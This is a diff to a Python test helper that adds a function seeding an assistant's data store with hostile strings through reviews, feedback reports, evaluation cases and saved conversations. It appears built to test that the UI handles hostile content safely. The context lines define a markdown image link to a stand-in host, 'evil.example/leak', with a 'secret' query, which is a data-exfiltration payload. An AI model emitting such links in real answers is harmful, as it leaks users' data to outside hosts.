@@ -2,17 +2,24 @@
 
 from __future__ import annotations
 
+import json
+import re
 from collections.abc import Sequence
 from dataclasses import replace
 from pathlib import Path
 
+from assistant import Assistant
 from assistant.answer import Answer, Caveat, Citation, Derived, Figure, Near, Operand
+from store import conversations, feedback, review
+from store.readonly import ReadStore
 from store.records import Bundle
 from store.writer import write_bundle
 from tests.ui.reports import FIGURES, quarter_bundle
 from tests.ui.reports import Figure as Row
 from tests.ui.stand_in import StandIn
+from ui.worker import evaluate
 
+RUN = "2026-01-01T00-00-00"
 AWAY = "https://evil.example/leak"
 STRINGS: tuple[str, ...] = (
     f"![image]({AWAY}.png?q=secret)",
@@ -190,6 +197,34 @@ class HostileRefusal(Hostile):
 
     def ask(self, question: str, history: Sequence[Answer] = ()) -> Answer:
         return replace(super().ask(question, history), status="not_found", figures=(), derived=())
+
+
+class ByWords:
+    """The real assistant, searching by words alone, so that it starts at once."""
+
+    @staticmethod
+    def open(path: Path) -> Assistant:
+        return Assistant(ReadStore(path), search_vectors=False)
+
+
+def work(folder: Path) -> str:
+    """What people and evaluations add to a store, all of it hostile; the key of a kept conversation."""
+    with ReadStore(folder) as store:
+        item = store.rows("answer_items")[2]["id"]
+        rows = store.rows("readings_of_item", item_id=item)
+        answer = Hostile(folder).ask(STRINGS[3]).to_dict()
+    for n, row in enumerate(rows):
+        review.correct(folder, row["id"], "comment", STRINGS[n], STRINGS[5], STRINGS[-1 - n])
+    review.set_aside(folder, "reading", rows[0]["id"], STRINGS[5], " ".join(STRINGS[:40]))
+    for n, text in enumerate(STRINGS[:6]):
+        feedback.report(folder, text, answer if n == 0 else {**answer, "citations": [], "figures": [], "derived": [],
+                        "caveats": [], "nearest": [], "text": text}, "other", " ".join(STRINGS)[n:2000], STRINGS[7])
+    cases = [{"id": f"{n} {text}"[:60], "question": text, "kind": STRINGS[4], "tags": [text[:40]], "history": [],
+              "expect": {"text": [re.escape(text)]} if n % 3 == 0 else {"status": "failed"}} for n, text in enumerate(STRINGS)]
+    chosen = folder.parent / "hostile.jsonl"
+    chosen.write_text("".join(json.dumps(case) + "\n" for case in cases), encoding="utf-8")
+    evaluate(folder, folder / "evaluations" / RUN, None, [str(chosen)])
+    return conversations.keep(folder, [answer], 1, STRINGS[7])[0]
 
 
 assert COUNT >= 50 and FIGURES
